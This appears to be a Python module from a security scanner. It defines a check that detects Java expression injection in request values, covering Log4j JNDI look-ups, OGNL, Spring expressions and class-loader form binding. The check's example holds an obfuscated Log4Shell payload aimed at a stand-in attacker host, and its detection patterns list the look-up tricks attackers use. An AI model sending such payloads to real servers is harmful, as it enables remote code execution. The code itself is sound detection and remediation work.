"""Expression injection: a value that Java's loggers and frameworks would evaluate."""

import re

from nightlatch.checks.attacks.expressions.java import (
    BINDING,
    JNDI,
    LANGUAGES,
    PATTERNS,
    SCOPES,
)
from nightlatch.checks.attacks.expressions.lookups import resolve
from nightlatch.checks.attacks.recogniser import SENT, Found, Recogniser
from nightlatch.checks.attacks.surroundings import surroundings
from nightlatch.checks.attacks.value import Clue, Value
from nightlatch.checks.check import Check, Scope
from nightlatch.exchange.judgement import Level

_PROBING = re.compile(
    r"""
    \u27e8\s*+
    (?: (?P<script>
          script\s*+:\s*+(?:javascript|js|groovy|jexl|nashorn|ecmascript)
        | dns\s*+:\s*+(?:address|name|canonicalName)
        | url\s*+:\s*+[\w-]++\s*+:\s*+[a-z]++: )
      | java\s*+:\s*+(?:version|runtime|vm|os|hw|locale) )
    """,
    re.VERBOSE | re.IGNORECASE,
)
"""Look-ups that were left when those that spell letters were undone."""
_ASSIGNED = re.compile(r"[\w.\[\]'\"]{0,60}=")
_EVALUATED = re.compile(r"[$%#*~]\{|\A\s*+\(|\A\s*+['\"]|\A\s*+(?:T\(|new\s|#|@)")


def recognise(text: str, value: Value) -> Clue | None:
    if "${" in text and (clue := _lookup(text, value)):
        return clue
    lower = text.lower()
    if match := JNDI.search(text, lower):
        return _weighed(match, text, value, "has the logger ask a directory server", 80)
    if (match := BINDING.search(text, lower)) and _named(match, text, value):
        return _weighed(match, text, value, "reaches through a form to the class loader", 92)
    for feature, why in LANGUAGES:
        if match := feature.search(text, lower):
            return _weighed(match, text, value, why, 92 if _EVALUATED.search(text) else 85)
    if match := SCOPES.search(text, lower):
        why = "is an expression that reads what the application keeps"
        return _weighed(match, text, value, why, 70)
    return None


def _named(match: re.Match[str], text: str, value: Value) -> bool:
    """Is it the name of a field, or does a field of that name follow in a body?"""
    return value.is_name or bool(_ASSIGNED.match(text, match.end()))


def _lookup(text: str, value: Value) -> Clue | None:
    resolved = resolve(text)
    if resolved.jndi:
        at = text.find("${")
        around = surroundings(text, at, text.rfind("}") + 1 or len(text), value)
        if around.code and around.words > 12:
            return None
        return Clue(98, "has the logger fetch code from a directory server", text[at:])
    if resolved.hidden > 1:
        return Clue(75, "spells letters with look-ups, to hide what it asks for", text)
    if match := _PROBING.search(resolved.text):
        around = surroundings(resolved.text, match.start(), match.end(), value)
        if around.code or around.words > 40:
            return None
        if match["script"]:
            certainty, why = 85, "has a look-up run a script or fetch an address"
        else:
            certainty, why = 65, "has the logger say what it runs on"
        return Clue(certainty, why, match[0])
    return None


def _weighed(match: re.Match[str], text: str, value: Value, why: str, alone: int) -> Clue | None:
    around = surroundings(text, match.start(), match.end(), value)
    if around.code:
        return None
    if around.lines > 8 or around.words > 30:
        certainty = 35
    else:
        certainty = alone if around.words <= 10 else min(alone, 65)
    return Clue(certainty, why, text[max(0, match.start() - 20) : match.end() + 60])


_PATTERNS = (
    r"\$\{[^}]{0,200}(?:jndi|lower|upper|:-|script|dns|url|java\s*:|base64|date)",
    r"\$\{\s*\$\{",
    *PATTERNS,
)

CHECK = Check(
    id="expression-injection",
    title="A value carries an expression for Java",
    level=Level.HIGH,
    scope=Scope.REQUEST,
    what="""\
Fails when a value would be evaluated by a logger or a framework of Java: a look-up of Log4j that
asks a directory server (`${jndi:ldap://…}`, however its letters are spelled), an OGNL expression of
Struts or Confluence, a Spring expression that names a class, an expression that walks to `Runtime`
and runs a command, a form field that reaches the class loader. Nested look-ups are resolved as
Log4j resolves them. Stack traces, Java code in a text and ordinary placeholders (`${user.name}`)
pass.""",
    why="""\
One such value in any field that is logged, or bound to a form, gives the caller the server:
Log4Shell, Spring4Shell and the Struts holes behind the largest leaks were each a single line. It is
tried against services of every language, because the logs often end up in Java.""",
    example="""\
GET / HTTP/1.1
Host: api.example.com
User-Agent: ${${lower:j}ndi:${lower:l}dap://attacker.example/a}
""",
    remedy="""\
Keep Log4j (2.17.1 or later), Struts and Spring up to date, everywhere that your requests' values
arrive: log shippers and search clusters too. Never evaluate an expression that holds a caller's
value; where people may write expressions, leave them no classes, and leave forms only their fields:

```java
var context = SimpleEvaluationContext.forReadOnlyDataBinding().build();  // no T(…), no constructors
binder.setAllowedFields("name", "email");                                // in an @InitBinder method
```

Let such servers open no connections outwards, so that nothing can be fetched.""",
    owasp="API8:2023",
    cwe=917,
    references=(
        "https://logging.apache.org/security.html",
        "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
        "https://owasp.org/www-community/vulnerabilities/Expression_Language_Injection",
    ),
    reads=SENT,
    judge=Found("expression-injection"),
)

RECOGNISER = Recogniser("expression-injection", _PATTERNS, recognise)
